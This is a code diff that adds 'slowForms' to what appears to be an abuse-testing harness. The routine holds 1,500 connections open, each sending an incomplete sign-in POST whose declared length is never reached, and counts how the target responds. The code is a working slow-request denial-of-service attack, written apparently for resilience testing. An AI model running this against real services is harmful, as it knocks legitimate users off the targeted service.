@@ -47,3 +47,20 @@ export const slowBodies: Abuse = {
     for (const tcp of open) tcp.destroy()
   },
 }
+
+export const slowForms: Abuse = {
+  name: 'slow-forms',
+  does: 'holds fifteen hundred forms of signing in open that are whole but for their end',
+  async run(target) {
+    const { hostname, port } = new URL(target.url)
+    const form = `{"email":"${'a'.repeat(62_000)}`
+    const head = `POST /api/accounts/sign-in HTTP/1.1\r\nHost: hub\r\nContent-Type: application/json\r\nContent-Length: 65000\r\n\r\n`
+    const open = Array.from({ length: 1_500 }, () => {
+      const tcp = connect(Number(port), hostname, () => tcp.write(head + form))
+      tcp.on('data', () => target.count('answered')).on('close', () => target.count('closed'))
+      return tcp.on('error', () => undefined)
+    })
+    while (!isOver(target)) await pause(200)
+    for (const tcp of open) tcp.destroy()
+  },
+}
